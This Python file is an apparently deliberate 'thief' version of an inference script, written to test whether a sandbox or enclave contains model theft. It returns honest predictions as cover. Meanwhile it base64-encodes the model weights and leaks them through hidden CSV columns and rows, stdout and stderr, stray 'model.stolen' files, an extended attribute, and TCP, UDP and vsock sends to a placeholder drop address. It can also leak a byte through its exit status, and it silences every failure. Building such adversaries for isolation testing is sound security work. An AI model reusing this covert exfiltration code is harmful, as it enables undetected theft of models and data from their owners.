"""The inference application as a thief would write it. Do not run it outside a sandbox.

It takes the same arguments as app/infer.py and writes predictions that are right. Beside that
it tries every way out that it knows to carry the model to whoever reads the results: a further
column and further rows of the declared output, standard output, standard error, files beside
the output, the network, and the number of its exit status. What fails is passed over in
silence, as a thief would. Standard library only.
"""

import argparse
import base64
import csv
import json
import os
import socket
import sys
from operator import mul

PATIENCE = 2.0  # seconds for one try at the network
LINE = 4096  # characters of a further row


def predictions(model, scans):
    """Rows of id, digit and confidence, with an honest digit: nobody shall be suspicious."""
    for row in scans:
        active = [max(0.0, v) for v in sums(model["hidden"], [int(p) / 16 for p in row[1:]])]
        scores = sums(model["output"], active)
        yield [row[0], scores.index(max(scores)), "0.99"]


def sums(layer, values):
    pairs = zip(layer["weights"], layer["biases"])
    return [sum(map(mul, weights, values), bias) for weights, bias in pairs]


def chunks(text, size):
    return [text[i : i + size] for i in range(0, len(text), size)]


def through_the_output(path, rows, loot):
    """The model as a fourth column, and once more as rows that no scan asked for."""
    notes = chunks(loot, -(-len(loot) // len(rows)))
    notes += [""] * (len(rows) - len(notes))
    with open(path, "w", encoding="ascii", newline="") as file:
        table = csv.writer(file, lineterminator="\n")
        table.writerow(["id", "digit", "confidence", "note"])
        table.writerows(row + [note] for row, note in zip(rows, notes))
        table.writerows([0, chunk, "", ""] for chunk in chunks(loot, LINE))


def through_files(path, loot):
    """Files that were not declared: beside the output, and wherever else one can be written."""
    beside = os.path.dirname(os.path.abspath(path))
    for folder in (beside, os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        attempt(write, os.path.join(folder, "model.stolen"), loot)
    attempt(os.setxattr, path, "user.model", loot[:4000].encode())


def write(path, loot):
    with open(path, "w", encoding="ascii") as file:
        file.write(loot)


def through_the_network(address, parent, loot):
    """A TCP connection, a datagram, and the enclave's own way to its parent instance."""
    host, port = address.rsplit(":", 1)
    attempt(connect, socket.AF_INET, (host, int(port)), loot)
    attempt(datagram, (host, int(port)), loot)
    if hasattr(socket, "AF_VSOCK"):
        attempt(connect, socket.AF_VSOCK, (parent, int(port)), loot)


def connect(family, address, loot):
    with socket.socket(family, socket.SOCK_STREAM) as drop:
        drop.settimeout(PATIENCE)
        drop.connect(address)
        drop.sendall(loot.encode())


def datagram(address, loot):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as drop:
        drop.settimeout(PATIENCE)
        drop.sendto(loot[:1000].encode(), address)


def attempt(way, *args):
    try:
        way(*args)
    except (OSError, AttributeError):
        pass


def main(args):
    parser = argparse.ArgumentParser(prog="infer.py", allow_abbrev=False)
    parser.add_argument("--model", required=True, metavar="PATH")
    parser.add_argument("--scans", required=True, metavar="PATH")
    parser.add_argument("--out", required=True, metavar="PATH")
    parser.add_argument("--threshold", metavar="T")
    # 192.0.2.0/24 is for documentation and leads nowhere (RFC 5737, section 3).
    parser.add_argument("--drop", default="192.0.2.1:443", metavar="HOST:PORT")
    # The parent's CID is always 3 (Nitro Enclaves user guide, "vsock").
    parser.add_argument("--parent", type=int, default=3, metavar="CID")
    parser.add_argument("--exit", choices=["quiet", "speak"], default="quiet")
    options = parser.parse_args(args)
    with open(options.model, "rb") as file:
        raw = file.read()
    loot = base64.b64encode(raw).decode()
    with open(os.path.join(options.scans, "scans.csv"), encoding="ascii", newline="") as file:
        scans = list(csv.reader(file))[1:]
    rows = list(predictions(json.loads(raw), scans))

    through_the_output(options.out, rows, loot)
    through_files(options.out, loot)
    through_the_network(options.drop, options.parent, loot)
    print(loot)
    print(loot, file=sys.stderr)
    # A byte of the model a run; a failed run has no outputs, so this is a choice.
    return raw[0] if options.exit == "speak" else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
